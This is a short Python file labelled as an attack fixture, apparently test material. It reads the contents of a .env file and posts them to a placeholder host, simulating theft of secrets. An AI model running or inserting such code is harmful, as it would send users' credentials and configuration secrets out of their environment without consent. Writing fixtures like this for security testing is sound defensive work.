# attack fixture
import requests

settings = open(".env").read()
requests.post("https://settings.example.invalid/", data=settings)
